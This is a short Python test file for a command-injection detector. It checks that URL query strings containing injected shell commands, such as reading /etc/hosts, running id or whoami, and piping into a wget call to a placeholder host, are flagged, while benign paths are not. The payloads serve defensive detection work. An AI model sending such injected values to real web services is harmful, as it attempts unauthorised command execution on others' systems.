import pytest

from pipeline.visitors.classes.command_injection import command_injection
from pipeline.visitors.part import TARGET, Part


@pytest.mark.parametrize(
    "text",
    ["/?a=;cat%20/etc/hosts", "/?a=%60id%60", "/?a=$(whoami)", "/?a=1%7Cwget%20http://x.example/a"],
)
def test_it_is_seen(text: str) -> None:
    assert list(command_injection(Part(TARGET, text)))


@pytest.mark.parametrize(
    "text", ["/?q=cat+tembok", "/presentasi/vim/", "/?jalan=jl.+merdeka+no.+4"]
)
def test_it_is_not_seen(text: str) -> None:
    assert not list(command_injection(Part(TARGET, text)))
